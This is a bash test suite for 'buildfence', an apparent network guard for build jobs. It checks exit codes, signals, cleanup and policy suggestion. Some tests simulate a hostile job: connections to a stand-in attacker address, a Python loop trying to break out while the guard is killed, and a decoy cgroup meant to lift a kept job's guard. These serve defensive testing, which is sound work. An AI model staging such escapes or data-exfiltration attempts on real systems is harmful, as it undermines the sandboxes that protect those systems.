# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# The command itself: exit statuses, signals, what it leaves behind.

test_the_exit_status_is_the_commands() {
	local code
	policy_feed
	for code in 0 1 42 255; do
		guarded -- bash -c "exit $code"
		status_is $code
	done
	guarded -- bash -c 'kill -TERM $$'
	status_is 143
}

test_a_command_that_cannot_run_is_126_or_127() {
	policy_feed
	touch "$CASE/no-program"
	guarded -- "$CASE/no-program"
	status_is 126
	says no-program
	guarded -- "$CASE/not-there"
	status_is 127
	guarded -- no-such-command-anywhere
	status_is 127
	says no-such-command-anywhere
}

test_a_guard_that_cannot_start_is_125_and_runs_nothing() {
	printf 'version: 1\nalow: [ "https://feed.example" ]\n' | policy
	MAY_FAIL=1 guarded -- touch "$CASE/ran"
	status_is 125
	says 'policy.yaml:2:1: .*alow'
	[ ! -e "$CASE/ran" ] || fail "the command ran"
	rm "$CASE/policy.yaml"
	MAY_FAIL=1 guarded -- touch "$CASE/ran"
	status_is 125
	says policy.yaml
	policy_feed
	MAY_FAIL=1 guarded --events "$CASE/no/such/folder" -- touch "$CASE/ran"
	status_is 125
	[ ! -e "$CASE/ran" ] || fail "the command ran"
	needs setpriv
	chmod 755 "$CASE"
	in_agent setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps=-all "$BUILDFENCE" run -- touch "$CASE/ran" 2>"$CASE/err"
	STATUS=$?
	status_is 125
	[ ! -e "$CASE/ran" ] || fail "the command ran"
}

test_an_output_that_is_a_symbolic_link_is_refused_and_says_so() {
	local option
	policy_feed
	ln -s elsewhere "$CASE/link"
	for option in --events --report; do
		MAY_FAIL=1 guarded $option "$CASE/link" -- touch "$CASE/ran"
		status_is 125
		says "$option $CASE/link: is a symbolic link"
	done
	[ ! -e "$CASE/ran" ] && [ ! -e "$CASE/elsewhere" ] || fail "the command ran, or the link was followed"
}

# As an earlier build leaves it in a folder of its own: it would hold the run up, or change what stands there.
test_an_output_that_an_earlier_job_made_is_refused_and_says_so() {
	local option
	policy_feed
	mkfifo "$CASE/fifo"
	touch "$CASE/theirs" "$CASE/one"
	chown 65534 "$CASE/theirs"
	ln "$CASE/one" "$CASE/two"
	for option in --events --report; do
		MAY_FAIL=1 guarded $option "$CASE/fifo" -- touch "$CASE/ran"
		status_is 125
		MAY_FAIL=1 guarded $option "$CASE/theirs" -- touch "$CASE/ran"
		status_is 125
		says "$option $CASE/theirs: belongs to another user"
		MAY_FAIL=1 guarded $option "$CASE/two" -- touch "$CASE/ran"
		status_is 125
		says "$option $CASE/two: .* has another name too"
	done
	[ ! -e "$CASE/ran" ] || fail "the command ran"
	cat "$CASE/fifo" >/dev/null &
	local reader=$!
	MAY_FAIL=1 guarded --events "$CASE/fifo" -- true
	says "$CASE/fifo: is a FIFO"
	kill $reader
	guarded --report /dev/null -- true
	status_is 0
}

test_wrong_usage_is_64() {
	policy_feed
	guarded --no-such-option -- true
	status_is 64
	guarded --mode sometimes -- true
	status_is 64
	guarded
	status_is 64
}

test_fail_on_violation_is_3_when_the_command_succeeded() {
	policy_feed
	guarded --fail-on-violation -- bash -c "$JOB tcp $EVIL4 8080; true"
	status_is 3
	guarded --fail-on-violation -- bash -c "$JOB tcp $EVIL4 8080; exit 9"
	status_is 9
	guarded --fail-on-violation -- true
	status_is 0
	guarded -- bash -c "$JOB tcp $EVIL4 8080; true"
	status_is 0
}

test_signals_reach_the_job() {
	local signal guard
	policy_feed
	for signal in TERM INT HUP USR1; do
		rm -f "$CASE/ready"
		# Not guarded(): the signal is for buildfence, not for timeout. In the background a shell
		# has SIGINT ignored, which its children inherit.
		$AGENT env --default-signal=INT "$BUILDFENCE" run --policy "$CASE/policy.yaml" -- bash -c \
			"trap 'echo got $signal; exit 7' $signal; touch $CASE/ready; while :; do sleep 0.05; done" >"$CASE/out" 2>"$CASE/err" &
		guard=$!
		wait_until 10 test -e "$CASE/ready" || fail "the job did not start"
		kill -$signal $guard
		STATUS=0
		wait $guard || STATUS=$?
		prints "got $signal"
		status_is 7
	done
}

test_standard_streams_are_the_jobs_own() {
	policy_feed
	echo "from stdin" >"$CASE/in"
	in_agent "$BUILDFENCE" run --policy "$CASE/policy.yaml" -- bash -c 'cat; echo to-stderr >&2' <"$CASE/in" >"$CASE/out" 2>"$CASE/err"
	STATUS=$?
	status_is 0
	[ "$(cat "$CASE/out")" = "from stdin" ] || fail "standard output is not the job's alone"
	says to-stderr
}

test_processes_that_outlive_the_job_are_ended_with_it() {
	policy_feed
	guarded -- bash -c 'setsid sleep 300 >/dev/null 2>&1 & echo $! >pid'
	status_is 0
	# A zombie is dead: who reaps it is the machine's affair.
	[ ! -e "/proc/$(cat pid)" ] || grep -q '^State:.Z' "/proc/$(cat pid)/status" || fail "process $(cat pid) is still there"
}

test_with_keep_they_go_on_and_stay_guarded() {
	policy_feed
	guarded --keep -- bash -c "setsid bash -c 'until [ -e $CASE/go ]; do sleep 0.05; done; $JOB tcp $EVIL4 8080; echo \$? >$CASE/after' >/dev/null 2>&1 & echo \$! >pid"
	status_is 0
	kill -0 "$(cat pid)" || fail "the process is gone"
	touch "$CASE/go"
	wait_until 10 test -s "$CASE/after" || fail "the process did not go on"
	[ "$(cat "$CASE/after")" != 0 ] || fail "what was kept is not guarded"
	nothing_arrived "$EVIL4"
	# Once it is empty, the next run collects it.
	sleep 0.3
	guarded -- true
}

# Whoever has a cgroup to make others in can give one any name, also that of a kept job's.
test_with_keep_a_cgroup_that_bears_its_name_does_not_take_the_guard_off() {
	local name
	policy_feed
	guarded --keep -- bash -c "setsid bash -c 'until [ -e $CASE/go ]; do sleep 0.05; done; $JOB tcp $EVIL4 8080; echo \$? >$CASE/after' >/dev/null 2>&1 & echo \$! >pid"
	name=$(sed -n 's/^0:://p' "/proc/$(cat pid)/cgroup")
	name=${name##*/}
	name=${name#*.}
	mkdir -p "$CASE_CGROUP/delegated/buildfence-x.${name%.keep}"
	guarded -- true
	touch "$CASE/go"
	wait_until 10 test -s "$CASE/after" || fail "the process did not go on"
	[ "$(cat "$CASE/after")" != 0 ] || fail "another run took the guard off"
	nothing_arrived "$EVIL4"
	[ -z "$(ls -d "$CASE_CGROUP"/delegated/*/)" ] || fail "the false cgroup is left"
	rmdir "$CASE_CGROUP/delegated"
	sleep 0.3
	guarded -- true
	[ ! -e "/sys/fs/bpf/buildfence/run-${name%.keep}" ] || fail "its pins are left"
}

# The guard is killed while its job tries to get out all the time.
test_killed_half_way_the_guard_leaves_nothing_open() {
	local guard
	policy_feed
	attack <<-'END'
	import os, pathlib, time
	import job
	case = pathlib.Path(os.environ["CASE"])
	end = time.monotonic() + 5
	while time.monotonic() < end:
	    try:
	        job.tcp("203.0.113.66", 8080)
	        (case / "escaped").touch()
	    except OSError:
	        (case / "ready").touch()
	    time.sleep(0.001)
	END
	$AGENT "$BUILDFENCE" run --policy "$CASE/policy.yaml" -- "${ATTACK[@]}" >"$CASE/out" 2>"$CASE/err" &
	guard=$!
	wait_until 10 test -e "$CASE/ready" || fail "the job did not start"
	kill -9 $guard
	wait $guard
	sleep 1
	[ ! -e "$CASE/escaped" ] || fail "the job got out"
	nothing_arrived "$EVIL4|$SECRET"
	# The next run collects what the dead one left: its pins, and its cgroup once that is empty.
	cgroup_kill_below "$CASE_CGROUP"
	guarded -- true
	status_is 0
	! pins | grep "run-$guard-" || fail "the pins of the killed run are left"
}

pins() { find /sys/fs/bpf/buildfence -mindepth 1 -maxdepth 1 2>/dev/null | sort; }

# Ends what runs in the cgroups below this one; they themselves are left to the next run.
cgroup_kill_below() {
	find "$1" -mindepth 2 -name cgroup.procs -exec cat {} + | xargs -r kill -9 2>/dev/null
	wait_until 10 bash -c "! find $1 -mindepth 2 -name cgroup.procs -exec cat {} + | grep -q ."
}

test_nothing_stays_behind_after_a_run() {
	policy_feed
	local before
	before=$(pins)
	guarded -- bash -c 'ls /sys/fs/bpf/buildfence'
	status_is 0
	prints '^run-'
	[ "$(pins)" = "$before" ] || fail "pins are left: $(pins)"
}

test_the_summary_says_what_was_reached_and_what_was_blocked() {
	policy_feed
	guarded -- bash -c "$JOB tcp feed.example 8080; $JOB tcp feed.example 8080; $JOB tcp $EVIL4 8080; $JOB ask paste.example; true"
	status_is 0
	says 'feed.example.*8080'
	says "blocked .*$EVIL4:8080/tcp"
	says 'blocked .*paste.example.*to allow: "https://paste.example"'
	says_not $'\033'
}

test_a_run_without_violations_has_an_empty_record_file() {
	policy_feed
	guarded -- $JOB tcp feed.example 8080
	status_is 0
	[ -e "$CASE/events" ] && [ ! -s "$CASE/events" ] || fail "the file of records is not there, or not empty"
}

test_the_file_of_records_has_the_users_umask() {
	policy_feed
	umask 022
	guarded -- true
	[ "$(stat -c %a "$CASE/events")" = 644 ] || fail "it is $(ls -la "$CASE/events")"
	umask 077
	guarded -- true
	[ "$(stat -c %a "$CASE/events")" = 600 ] || fail "it is $(ls -la "$CASE/events")"
}

test_options_alone_make_a_policy() {
	rm -f "$CASE/events"
	in_agent "$BUILDFENCE" run --allow tcp://feed.example:8080 --events "$CASE/events" -- bash -c \
		"$JOB tcp feed.example 8080 && ! $JOB ask dev.azure.com" >"$CASE/out" 2>"$CASE/err"
	STATUS=$?
	status_is 0
	recorded Reason=dns-name DstFQDN=dev.azure.com
	in_agent "$BUILDFENCE" run --preset azure-devops -- $JOB ask dev.azure.com >"$CASE/out" 2>"$CASE/err" ||
		in_agent "$BUILDFENCE" run --preset azure-devops --allow "https://x.example" -- true >>"$CASE/out" 2>&1 ||
		grep -q organization "$CASE/err" || fail "the preset does not work alone"
}

# suggested [OPTIONS]: makes $CASE/policy.yaml of the last run's records; what is said stands in $CASE/err.
suggested() {
	"$BUILDFENCE" suggest --from "$CASE/events" "$@" >"$CASE/suggested" 2>"$CASE/err" || fail "suggest failed"
	mv "$CASE/suggested" "$CASE/policy.yaml"
}

test_what_an_audit_run_saw_can_be_suggested_and_is_enough() {
	policy <<<'version: 1'
	guarded --mode audit -- bash -c "$JOB tcp feed.example 8080 && $JOB udp 198.51.100.70 9999"
	status_is 0
	suggested
	guarded --mode enforce -- bash -c "$JOB tcp feed.example 8080 && $JOB udp 198.51.100.70 9999"
	status_is 0
	guarded --mode enforce -- $JOB tcp $EVIL4 8080
	status_is_not 0
}

# What the run's own policy allows leaves no record, and the suggested one must allow it too.
test_what_an_audit_run_of_the_default_policy_did_passes_under_what_is_suggested() {
	local job=": >/dev/tcp/dev.azure.com/443 && $JOB tcp feed.example 8080"
	in_agent "$BUILDFENCE" run --mode audit --events "$CASE/events" -- bash -c "$job" >"$CASE/out" 2>"$CASE/err" ||
		fail "the audit run failed"
	not_recorded DstFQDN=dev.azure.com
	suggested
	[ ! -s "$CASE/err" ] || fail "suggest has doubts"
	guarded --mode enforce --fail-on-violation -- bash -c "$job"
	status_is 0
	[ ! -s "$CASE/events" ] || fail "something was refused"
	guarded --mode enforce -- $JOB tcp $EVIL4 8080
	status_is_not 0
}

test_an_audit_run_under_a_file_is_suggested_from_with_that_file() {
	local job="$JOB tcp feed.example 8080 && $JOB tcp other.example 8080"
	policy <<-END
	version: 1
	mode: audit
	allow: [ "tcp://feed.example:8080" ]
	END
	guarded -- bash -c "$job"
	status_is 0
	cp "$CASE/events" "$CASE/audited"
	mv "$CASE/policy.yaml" "$CASE/base.yaml"
	suggested
	says "what the run's policy 'policy' allowed left no record"
	guarded -- $JOB tcp feed.example 8080
	status_is_not 0
	mv "$CASE/audited" "$CASE/events"
	mv "$CASE/base.yaml" "$CASE/policy.yaml"
	suggested --policy "$CASE/policy.yaml"
	[ ! -s "$CASE/err" ] || fail "suggest has doubts"
	guarded --fail-on-violation -- bash -c "$job"
	status_is 0
	guarded -- $JOB tcp $EVIL4 8080
	status_is_not 0
}

# The recipe of README, line by line, as a user would type it: files by relative path, and the build
# not as root.
test_the_recipe_of_the_readme_works_as_written() {
	local line user=nobody statuses=
	needs setpriv
	as_user() { setpriv --reuid $user --regid "$(id -g $user)" --clear-groups "$@"; }
	sudo() { shift; USER=root in_agent "$BUILDFENCE" "$@"; }
	buildfence() { as_user "$BUILDFENCE" "$@"; }
	chmod 755 "$CASE"
	mkdir work && chown $user work && cd work || fail "no folder"
	cat >build.sh <<-END
	#!/bin/bash
	id -un >built-by && : >/dev/tcp/dev.azure.com/443 && $JOB tcp feed.example 8080
	END
	chmod 755 build.sh
	while read -r line; do
		USER=$user eval "$line" </dev/null >>"$CASE/out" 2>>"$CASE/err"
		statuses+=" $?"
	done < <(sed -n '/To begin with a build/,/^What/s/^    //p' "$WORLD_TOP/README.md")
	# The fourth asks about a name that the build did not need.
	[ "$statuses" = " 0 0 0 2 0" ] || fail "README's commands ended with:$statuses"
	[ "$(cat built-by)" = $user ] || fail "the build ran as $(cat built-by)"
	as_user cat run.ndjson report.md >/dev/null || fail "the user cannot read what was written"
}
